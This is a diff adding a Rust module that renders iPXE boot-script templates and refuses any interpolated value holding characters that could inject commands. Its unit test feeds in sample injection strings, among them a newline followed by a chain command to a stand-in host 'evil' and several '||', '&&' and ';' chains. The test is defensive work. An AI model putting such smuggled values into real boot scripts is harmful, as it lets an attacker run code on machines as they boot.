@@ -1,0 +1,434 @@
+//! iPXE script templates (minijinja): built-in copies embedded in the
+//! binary, overridable by name from the operator's `templates.dir`.
+//!
+//! Every value interpolated into a script passes through [`refuse_unsafe`]:
+//! iPXE has no quoting, so a value carrying a newline, `||`, `&&`, `$` or a
+//! similar character could run commands of its own. Such a value makes the
+//! render fail (and the caller serves its safe local-boot script) rather
+//! than being mangled into something that still boots.
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+
+use minijinja::value::{Serde, Value};
+use minijinja::{Environment, ErrorKind, UndefinedBehavior};
+use serde::Serialize;
+
+/// Built-in templates: (name, source).
+const BUILT_IN: &[(&str, &str)] = &[
+    (
+        "_header.ipxe.j2",
+        include_str!("../../templates/_header.ipxe.j2"),
+    ),
+    (
+        "_status.ipxe.j2",
+        include_str!("../../templates/_status.ipxe.j2"),
+    ),
+    (
+        "_offline_banner.ipxe.j2",
+        include_str!("../../templates/_offline_banner.ipxe.j2"),
+    ),
+    (
+        "_localboot.ipxe.j2",
+        include_str!("../../templates/_localboot.ipxe.j2"),
+    ),
+    (
+        "bootstrap.ipxe.j2",
+        include_str!("../../templates/bootstrap.ipxe.j2"),
+    ),
+    (
+        "install.ipxe.j2",
+        include_str!("../../templates/install.ipxe.j2"),
+    ),
+    (
+        "local.ipxe.j2",
+        include_str!("../../templates/local.ipxe.j2"),
+    ),
+    (
+        "discovery.ipxe.j2",
+        include_str!("../../templates/discovery.ipxe.j2"),
+    ),
+    (
+        "retired.ipxe.j2",
+        include_str!("../../templates/retired.ipxe.j2"),
+    ),
+];
+
+pub const HEADER: &str = "_header.ipxe.j2";
+pub const BOOTSTRAP: &str = "bootstrap.ipxe.j2";
+
+#[derive(Debug, thiserror::Error)]
+pub enum TemplateError {
+    #[error("{origin}:{line}: {message}")]
+    Render {
+        origin: String,
+        line: usize,
+        message: String,
+    },
+    #[error("cannot read template {path}: {source}")]
+    Read {
+        path: PathBuf,
+        source: std::io::Error,
+    },
+}
+
+/// The per-node facts a script template sees.
+#[derive(Debug, Clone, Serialize)]
+pub struct ScriptContext {
+    pub site_id: String,
+    pub base_url: String,
+    pub mac: String,
+    pub mac_hyphen: String,
+    pub state: String,
+    pub action: String,
+    pub source: String,
+    pub arch: Option<String>,
+    pub platform: Option<String>,
+    pub hostname: Option<String>,
+    pub node: Option<NodeView>,
+    pub workflow: Option<WorkflowView>,
+    pub banner: Option<String>,
+    pub offline: Option<OfflineView>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct NodeView {
+    pub id: String,
+    pub hostname: Option<String>,
+    pub group_id: Option<String>,
+    pub tags: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct WorkflowView {
+    pub id: String,
+    pub name: String,
+    pub method: String,
+    pub kernel_url: String,
+    pub initrds: Vec<ImageView>,
+    pub cmdline: String,
+    pub url: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ImageView {
+    pub url: String,
+    /// iPXE names a fetched image after the last path segment of its URL;
+    /// UEFI kernels need `initrd=<that name>` on their command line.
+    pub name: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct OfflineView {
+    pub since: String,
+    pub duration: String,
+    pub cached_at: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct BootstrapContext {
+    pub base_url: String,
+    pub site_id: String,
+    pub retries: u32,
+    pub retry_delay_s: u32,
+}
+
+pub struct Templates {
+    env: Environment<'static>,
+    /// Template name → where it came from, for error messages.
+    origins: HashMap<String, String>,
+}
+
+impl Templates {
+    /// Loads templates (operator copies first), then renders each once with
+    /// sample data so that a broken template stops start-up, not a boot.
+    pub fn load(operator_dir: &Path) -> Result<Templates, TemplateError> {
+        let mut env = Environment::new();
+        env.set_undefined_behavior(UndefinedBehavior::Strict);
+        env.set_syntax(
+            minijinja::syntax::SyntaxConfig::builder()
+                .trim_blocks(true)
+                .lstrip_blocks(true)
+                .keep_trailing_newline(true)
+                .build()
+                .map_err(|e| TemplateError::Render {
+                    origin: "built-in syntax".into(),
+                    line: 0,
+                    message: e.to_string(),
+                })?,
+        );
+        env.set_formatter(|out, _state, value| {
+            let text = refuse_unsafe(value)?;
+            out.write_str(&text).map_err(minijinja::Error::from)
+        });
+        let mut origins = HashMap::new();
+        for (name, built_in) in BUILT_IN {
+            let path = operator_dir.join(name);
+            let (source, origin) = match std::fs::read_to_string(&path) {
+                Ok(text) => (text, path.display().to_string()),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+                    (built_in.to_string(), format!("built-in {name}"))
+                }
+                Err(source) => return Err(TemplateError::Read { path, source }),
+            };
+            origins.insert(name.to_string(), origin);
+            env.add_template_owned(name.to_string(), source)
+                .map_err(|e| convert(&origins, e))?;
+        }
+        let templates = Templates { env, origins };
+        templates.self_test()?;
+        Ok(templates)
+    }
+
+    /// The built-in templates only (used by tests and as a last resort).
+    pub fn built_in() -> Result<Templates, TemplateError> {
+        Self::load(Path::new("/nonexistent/siteboot-templates"))
+    }
+
+    pub fn origin(&self, name: &str) -> Option<&str> {
+        self.origins.get(name).map(String::as_str)
+    }
+
+    pub fn render_bootstrap(&self, ctx: &BootstrapContext) -> Result<String, TemplateError> {
+        self.render(BOOTSTRAP, Value::from(Serde(ctx)))
+    }
+
+    /// Renders the header (`#!ipxe`, status line, offline banner).
+    pub fn render_header(&self, ctx: &ScriptContext) -> Result<String, TemplateError> {
+        self.render(HEADER, Value::from(Serde(ctx)))
+    }
+
+    /// Renders the body template of an action (`install`, `local` …).
+    pub fn render_body(&self, action: &str, ctx: &ScriptContext) -> Result<String, TemplateError> {
+        self.render(&format!("{action}.ipxe.j2"), Value::from(Serde(ctx)))
+    }
+
+    fn render(&self, name: &str, ctx: Value) -> Result<String, TemplateError> {
+        let template = self
+            .env
+            .get_template(name)
+            .map_err(|e| convert(&self.origins, e))?;
+        template.render(ctx).map_err(|e| convert(&self.origins, e))
+    }
+
+    fn self_test(&self) -> Result<(), TemplateError> {
+        let bootstrap = BootstrapContext {
+            base_url: "http://192.0.2.1:8080".into(),
+            site_id: "sample".into(),
+            retries: 3,
+            retry_delay_s: 2,
+        };
+        self.render_bootstrap(&bootstrap)?;
+        for action in ["install", "local", "discovery", "retired"] {
+            for offline in [false, true] {
+                for method in ["kernel", "sanboot", "chain"] {
+                    let ctx = sample_context(action, method, offline);
+                    self.render_header(&ctx)?;
+                    self.render_body(action, &ctx)?;
+                }
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Sample data covering every optional field, for the start-up self-test.
+fn sample_context(action: &str, method: &str, offline: bool) -> ScriptContext {
+    let url = "http://192.0.2.1:8080";
+    ScriptContext {
+        site_id: "sample".into(),
+        base_url: url.into(),
+        mac: "52:54:00:00:00:01".into(),
+        mac_hyphen: "52-54-00-00-00-01".into(),
+        state: "pending".into(),
+        action: action.into(),
+        source: if offline { "offline" } else { "standalone" }.into(),
+        arch: Some("x86_64".into()),
+        platform: Some("efi".into()),
+        hostname: Some("sample-01".into()),
+        node: Some(NodeView {
+            id: "local-sample".into(),
+            hostname: Some("sample-01".into()),
+            group_id: Some("rack1".into()),
+            tags: vec!["sample".into()],
+        }),
+        workflow: Some(WorkflowView {
+            id: "sample".into(),
+            name: "Sample OS".into(),
+            method: method.into(),
+            kernel_url: format!("{url}/assets/sample/vmlinuz"),
+            initrds: vec![ImageView {
+                url: format!("{url}/assets/sample/initrd.img"),
+                name: "initrd.img".into(),
+            }],
+            cmdline: "console=ttyS0".into(),
+            url: Some(format!("{url}/assets/sample.iso")),
+        }),
+        banner: Some("hold".into()),
+        offline: offline.then(|| OfflineView {
+            since: "2026-01-01T00:00:00Z".into(),
+            duration: "5m".into(),
+            cached_at: "2026-01-01T00:00:00Z".into(),
+        }),
+    }
+}
+
+/// Characters that let a value escape the command it is interpolated into:
+/// line breaks and other controls end the command; `|`, `&` build `||` and
+/// `&&` chains; `$` expands settings; quotes and backslashes alter parsing;
+/// `;` is refused too, since some consumers of the command line (kernel
+/// arguments passed to shells) treat it as a separator.
+fn is_unsafe_char(c: char) -> bool {
+    c.is_control() || matches!(c, '|' | '&' | '$' | ';' | '`' | '\\' | '"' | '\'')
+}
+
+/// Renders a value for an iPXE script, or refuses it.
+fn refuse_unsafe(value: &Value) -> Result<String, minijinja::Error> {
+    if value.is_none() {
+        return Ok(String::new());
+    }
+    let text = value.to_string();
+    if let Some(bad) = text.chars().find(|c| is_unsafe_char(*c)) {
+        return Err(minijinja::Error::new(
+            ErrorKind::InvalidOperation,
+            format!(
+                "refusing to put {text:?} into an iPXE script: character {bad:?} could inject commands"
+            ),
+        ));
+    }
+    Ok(text)
+}
+
+fn convert(origins: &HashMap<String, String>, err: minijinja::Error) -> TemplateError {
+    let name = err.name().unwrap_or("?").to_string();
+    let origin = origins.get(&name).cloned().unwrap_or(name);
+    let mut message = err.kind().to_string();
+    if let Some(detail) = err.detail() {
+        message = format!("{message}: {detail}");
+    }
+    TemplateError::Render {
+        origin,
+        line: err.line().unwrap_or(0),
+        message,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ctx() -> ScriptContext {
+        sample_context("local", "kernel", false)
+    }
+
+    #[test]
+    fn built_in_templates_render() {
+        let t = Templates::built_in().unwrap();
+        let header = t.render_header(&ctx()).unwrap();
+        assert!(header.starts_with("#!ipxe\n"), "{header}");
+        assert!(header.contains(
+            "echo siteboot: mac=52:54:00:00:00:01 state=pending action=local source=standalone\n"
+        ));
+        assert!(!header.contains("OFFLINE"));
+        let mut offline = ctx();
+        offline.offline = Some(OfflineView {
+            since: "2026-11-22T10:00:00Z".into(),
+            duration: "1h".into(),
+            cached_at: "2026-11-22T09:00:00Z".into(),
+        });
+        let header = t.render_header(&offline).unwrap();
+        assert!(
+            header.contains(
+                "*** siteboot OFFLINE: central unreachable since 2026-11-22T10:00:00Z ***"
+            )
+        );
+    }
+
+    #[test]
+    fn install_script_carries_kernel_initrd_and_bootif() {
+        let t = Templates::built_in().unwrap();
+        let body = t
+            .render_body("install", &sample_context("install", "kernel", false))
+            .unwrap();
+        assert!(body.contains("kernel http://192.0.2.1:8080/assets/sample/vmlinuz initrd=initrd.img console=ttyS0 BOOTIF=01-52-54-00-00-00-01"), "{body}");
+        assert!(
+            body.contains("initrd http://192.0.2.1:8080/assets/sample/initrd.img"),
+            "{body}"
+        );
+        assert!(!body.contains("\n\n\n"), "blank-line noise: {body}");
+    }
+
+    #[test]
+    fn injection_attempts_are_refused() {
+        let t = Templates::built_in().unwrap();
+        for evil in [
+            "web\nchain http://evil/x",
+            "web\rshell",
+            "web || shell",
+            "web && shell",
+            "web ; shell",
+            "${net0/mac}",
+            "web`x`",
+            "web\"x",
+            "tab\there",
+        ] {
+            let mut c = ctx();
+            c.hostname = Some(evil.to_string());
+            let err = t.render_body("retired", &c).expect_err(evil).to_string();
+            assert!(err.contains("could inject commands"), "{evil:?}: {err}");
+            let mut c = sample_context("install", "kernel", false);
+            if let Some(wf) = c.workflow.as_mut() {
+                wf.cmdline = evil.to_string();
+            }
+            assert!(t.render_body("install", &c).is_err(), "cmdline {evil:?}");
+        }
+    }
+
+    #[test]
+    fn broken_operator_template_names_file_and_line() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("local.ipxe.j2"), "echo ok\necho {{ mac }\n").unwrap();
+        let err = Templates::load(dir.path())
+            .err()
+            .expect("must fail")
+            .to_string();
+        assert!(err.contains("local.ipxe.j2:2:"), "{err}");
+        assert!(err.contains(&dir.path().display().to_string()), "{err}");
+    }
+
+    #[test]
+    fn undefined_variable_in_operator_template_fails_start_up() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("discovery.ipxe.j2"),
+            "echo one\necho two\necho {{ no_such_field }}\n",
+        )
+        .unwrap();
+        let err = Templates::load(dir.path())
+            .err()
+            .expect("must fail")
+            .to_string();
+        assert!(err.contains("discovery.ipxe.j2:3:"), "{err}");
+    }
+
+    #[test]
+    fn operator_template_overrides_built_in() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("retired.ipxe.j2"),
+            "echo custom retired {{ mac }}\n",
+        )
+        .unwrap();
+        let t = Templates::load(dir.path()).unwrap();
+        assert_eq!(
+            t.render_body("retired", &ctx()).unwrap(),
+            "echo custom retired 52:54:00:00:00:01\n"
+        );
+        assert!(
+            t.origin("retired.ipxe.j2")
+                .unwrap()
+                .contains(&dir.path().display().to_string())
+        );
+        assert_eq!(t.origin("local.ipxe.j2"), Some("built-in local.ipxe.j2"));
+    }
+}
